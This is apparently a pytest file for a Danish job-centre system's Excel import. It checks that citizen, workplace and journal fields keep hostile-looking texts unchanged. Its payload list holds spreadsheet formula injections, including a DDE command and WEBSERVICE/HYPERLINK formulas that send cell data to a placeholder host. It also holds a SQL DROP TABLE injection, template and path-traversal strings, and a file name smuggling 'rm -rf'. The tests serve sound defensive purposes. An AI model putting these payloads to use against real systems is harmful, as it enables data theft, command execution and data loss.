"""Texts that mean something to other programs are texts here, and stay as they are."""

import datetime as dt
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from flexdesk.base.danish import clean
from flexdesk.imports.reading import read_file
from tests.support.import_books import ON, an_extract, day, save_book
from tests.support.stores import a_cpr

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\n=1+1", " =1+1",
    "\uff1d1+1", '=HYPERLINK("http://x/?"&A1;"klik")', '=WEBSERVICE("http://x/"&A2)',
    "=IMPORTXML(1)", "{=1+1}", '"=1+1', "'=1+1", 'x";=1+1;"', "%0A-3+3", "#REF!", "#VALUE!",
    "\u202egnirts", "a\u200bb", "\ufeffa", "A\u030age", "<b>fed", "</para>",
    '<img src="/etc/passwd"/>', "<font size=900>", '<a href="file:///c:/">', "a & b", "&lt;",
    "Robert'); DROP TABLE borger;--", "%s%n", "{0.__class__}", "{{7*7}}", "$(calc)", "../../x",
    "CON", "NUL.xlsx", "a:b", "punktum. ", "\n2026-01-01 INFO login ok", "-", "- skånehensyn",
    "+45 12 34 56 78", "navn@eksempel.dk", "1-2 timer", "æøåÆØÅ", "TRUE", "1e5", "00123",
]  # fmt: skip
PLACES = [
    ("Borgere", "Fornavn", "citizen", "first_name"),
    ("Borgere", "Adresse", "citizen", "address"),
    ("Arbejdspladser", "Arbejdsplads", "workplace", "name"),
    ("Arbejdspladser", "Forvaltning/branche", "workplace", "branch"),
    ("Journal", "Tekst", "note", "text"),
    ("Journal", "Jobkonsulent", "note", "consultant"),
]


def filled(payloads):
    """Return an extract with a citizen, a workplace and a note for each payload."""
    sheets = an_extract()
    for name, number_at in (("Borgere", 0), ("Arbejdspladser", 0), ("Journal", None)):
        head, first = sheets[name][:2]
        rows = []
        for n, payload in enumerate(payloads):
            row = list(first)
            if name == "Borgere":
                cpr = a_cpr(n)
                row[number_at] = f"{cpr[:6]}-{cpr[6:]}"
            elif name == "Arbejdspladser":
                row[number_at] = f"1{n:09d}"
            else:
                row[1] = day("2010-01-01") + dt.timedelta(days=n)
            for sheet, heading, _, _ in PLACES:
                if sheet == name:
                    row[head.index(heading)] = payload
            rows.append(row)
        sheets[name] += rows
    return sheets


def kept_of(tmp_path, payloads):
    file = read_file(save_book(tmp_path / "a.xlsx", filled(payloads)), on=ON)
    assert file.errors == 0, file.problems
    return {
        (entity, field): [row.values[field] for row in file.rows[entity]][-len(payloads) :]
        for _, _, entity, field in PLACES
    }


def expected(payload):
    """Everything but control and direction signs, blanks at the ends, in composed form."""
    signs = [
        each for each in payload
        if each in "\n\t" or unicodedata.category(each) not in {"Cc", "Cf", "Cs"}
    ]  # fmt: skip
    return unicodedata.normalize("NFC", "".join(signs)).strip()


def test_payloads_are_kept_as_they_are(tmp_path):
    wanted = [expected(payload) for payload in PAYLOADS]
    assert wanted == [clean(payload) for payload in PAYLOADS]
    for place, kept in kept_of(tmp_path, PAYLOADS).items():
        assert kept == wanted, place


def test_the_longest_text_a_cell_can_hold_is_kept(tmp_path):
    assert set(map(tuple, kept_of(tmp_path, ["Å" * 32_767]).values())) == {("Å" * 32_767,)}


@pytest.mark.parametrize("payload", ["=1+1", "<b>", "../x", "CON", "%s%n", "{{7*7}}", "🙂"])
def test_payloads_in_headings_and_sheet_names_do_no_harm(tmp_path, payload):
    sheets = an_extract()
    sheets["Borgere"][0].append(payload)
    sheets[f"Ark {payload}".replace("/", "").replace("*", "")[:31]] = [[payload, payload]]
    file = read_file(save_book(tmp_path / "a.xlsx", sheets), on=ON)
    assert file.errors == 0
    assert file.columns_ignored == (("Borgere", payload),)


@pytest.mark.parametrize("name", ["=1+1.xlsx", "$(calc).xlsx", "fil; rm -rf.xlsx", "æøå 🙂.xlsx"])
def test_payloads_in_file_names_do_no_harm(tmp_path, name):
    path = save_book(tmp_path / "a.xlsx", an_extract()).rename(tmp_path / name)
    assert read_file(path, on=ON).file_name == name


@settings(max_examples=25, deadline=None)
@given(
    st.lists(
        st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]), max_size=60),
        min_size=1,
        max_size=5,
    )
)
def test_any_text_comes_back_as_clean_leaves_it(tmp_path_factory, texts):
    # U+FFFE and U+FFFF cannot stand in XML at all; a note and a workplace need some text
    texts = ["x" + text.replace("\ufffe", "").replace("\uffff", "") for text in texts]
    kept = kept_of(tmp_path_factory.mktemp("text"), texts)
    assert kept["citizen", "address"] == [clean(text) for text in texts]
